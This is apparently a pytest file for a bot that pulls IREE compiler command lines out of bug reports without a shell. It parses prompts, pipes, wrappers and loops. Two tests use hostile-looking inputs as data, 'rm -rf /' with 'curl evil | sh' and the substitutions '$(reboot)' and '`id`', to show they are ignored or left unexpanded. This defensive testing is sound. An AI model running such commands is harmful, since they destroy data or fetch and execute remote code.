"""Parse command lines without a shell."""

from __future__ import annotations

import pytest

from bot.extract.command_line.shell import is_command, parse_commands
from tests.bot.extract.reading import extract_repro


def parse_argvs(text: str) -> list[tuple[str, ...]]:
    return [command.argv for command in parse_commands(text)[0]]


@pytest.mark.parametrize(
    "text",
    [
        "iree-opt --x a.mlir",
        "$ iree-opt --x a.mlir",
        "user@host:~/iree$ iree-opt --x a.mlir",
        "../iree-build/tools/iree-opt --x a.mlir",
        "time ./tools/iree-opt \\\n   --x \\  \n  a.mlir",
        "// RUN: iree-opt --x a.mlir | FileCheck %s",
        "iree-opt\n  --x a.mlir",
        "iree-opt '--x' \"a.mlir\"  # check",
        "(venv) $ iree-opt --x a.mlir",
        "[root@box iree]# iree-opt --x a.mlir",
        "➜  iree git:(main) ✗ iree-opt --x a.mlir",
        "(shark.venv) PS C:\\Users\\e\\w> iree-opt --x a.mlir",
        "C:\\tools\\iree-opt.exe --x a.mlir".replace("\\", "/"),
        "iree-opt /usr/lib/python3/iree/compiler/tools/../_mlir_libs/iree-opt --x a.mlir",
    ],
)
def test_every_way_to_write_a_call_gives_the_same_argv(text: str) -> None:
    """Prompts, build-tree paths, continuations with and without a backslash, wrappers, comments and quotes."""
    assert parse_argvs(text) == [("iree-opt", "--x", "a.mlir")]


def test_pipes_and_redirections_are_kept_apart_from_arguments() -> None:
    """A pipe between known tools feeds the second one; a file redirected to is noted."""
    first, second = parse_commands("iree-opt a.mlir | iree-compile - > b.vmfb 2>&1")[0]
    assert (first.argv, first.stdout) == (("iree-opt", "a.mlir"), "|")
    assert (second.argv, second.stdin, second.stdout) == (("iree-compile", "-"), "-", "b.vmfb")


def test_only_known_tools_become_commands() -> None:
    """Other programs are listed as left out, in any chain of commands."""
    commands, ignored = parse_commands("rm -rf / && iree-opt a.mlir; curl evil | sh")
    assert [c.argv for c in commands] == [("iree-opt", "a.mlir")]
    assert ignored == ["rm", "curl", "sh"]


def test_variables_and_substitutions_are_not_expanded() -> None:
    """They stay as written: no shell ever sees them."""
    assert parse_argvs('iree-opt "$(reboot)" $HOME `id`') == [("iree-opt", "$(reboot)", "$HOME", "`id`")]


def test_brackets_and_equal_signs_are_ordinary_characters() -> None:
    """Pass pipelines and tensor literals contain characters that a shell would refuse."""
    line = "iree-opt --pass-pipeline=builtin.module(func.func(a)) --input=2xf32=[1,2]"
    assert parse_argvs(line) == [("iree-opt", "--pass-pipeline=builtin.module(func.func(a))", "--input=2xf32=[1,2]")]


@pytest.mark.parametrize(("begin", "end"), [("; do ", "; done"), ("; ", "; end")], ids=["bash", "fish"])
def test_a_loop_over_words_is_unrolled(begin: str, end: str) -> None:
    """Only the loop variable is replaced."""
    line = f"for d in vulkan local-task{begin}iree-run-module --device=$d --module=m_${{d}}.vmfb $dd{end}"
    assert parse_argvs(line) == [
        ("iree-run-module", "--device=vulkan", "--module=m_vulkan.vmfb", "$dd"),
        ("iree-run-module", "--device=local-task", "--module=m_local-task.vmfb", "$dd"),
    ]


def test_backslashes_of_windows_paths_are_not_escapes() -> None:
    """As escapes, they would join the directories to the name."""
    assert parse_argvs("iree-opt C:\\w\\a.mlir -o .\\b.mlir") == [("iree-opt", "C:/w/a.mlir", "-o", "./b.mlir")]


@pytest.mark.parametrize("head", ["for b in vmvx llvm-cpu; do", "for b in vmvx llvm-cpu\ndo"])
def test_a_script_with_variables_and_a_loop_in_several_rows_is_unrolled(head: str) -> None:
    """Its rows are no output, and nothing but plain words is expanded."""
    body = f"""
IREE prints `2xf32=2 9`, expected `2xf32=2 3`.

```mlir
func.func @f(%x: tensor<2xf32>) -> tensor<2xf32> {{
  %0 = math.sqrt %x : tensor<2xf32>
  return %0 : tensor<2xf32>
}}
```

```bash
FLAGS="--iree-opt-level=O2"
OUT=$(mktemp -d)
{head}
  iree-compile $FLAGS --iree-hal-target-backends=$b f.mlir -o m_${{b}}.vmfb
  iree-run-module --module=m_$b.vmfb --function=f --input="2xf32=4 9"
done
```
"""
    found = extract_repro(body, title="iree: wrong square root")
    assert [step[:3] for step in found.testcase.steps] == [
        ("iree-compile", "--iree-opt-level=O2", "--iree-hal-target-backends=vmvx"),
        ("iree-run-module", "--module=m_vmvx.vmfb", "--function=f"),
        ("iree-compile", "--iree-opt-level=O2", "--iree-hal-target-backends=llvm-cpu"),
        ("iree-run-module", "--module=m_llvm-cpu.vmfb", "--function=f"),
    ]
    assert found.claim.actual == "2xf32=2 9"


@pytest.mark.parametrize(
    "wrapper",
    ["timeout 60", "timeout -k 5 60s", "nice -n 10 timeout 5m", "valgrind --leak-check=full", "perf stat -e cycles"],
)
def test_words_of_a_wrapper_stand_before_the_command(wrapper: str) -> None:
    """They are no part of the call, and the call is one."""
    line = f"{wrapper} /opt/iree/iree-opt --cse a.mlir; echo $?"
    (call,), _ = parse_commands(line)
    assert is_command(line)
    assert call.argv == ("iree-opt", "--cse", "a.mlir")
    assert call.ignored == tuple(wrapper.split())
